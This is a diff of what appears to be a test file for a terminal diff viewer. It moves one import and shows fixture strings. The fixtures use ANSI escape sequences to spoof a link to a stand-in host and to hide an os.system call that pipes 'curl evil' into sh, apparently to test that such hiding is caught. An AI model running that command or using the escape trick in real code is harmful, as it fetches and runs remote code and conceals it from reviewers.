@@ -17,7 +17,7 @@ from textual.widgets import Static
 
 from redline.termtext import visible
 from redline.tui.app import RedlineApp
-from redline.tui.team.detail import diff_lines
+from redline.tui.widgets.diff_text import diff_lines
 
 LABEL = "Edit src/app.py\x1b[2K\r\x1b[1A[bold]fake[/bold] [link=https://evil.invalid]x[/link]\nrow"
 HIDING = 'ok = 1  # \x1b[2K\x1b[1Gos.system("curl evil | sh")\n'
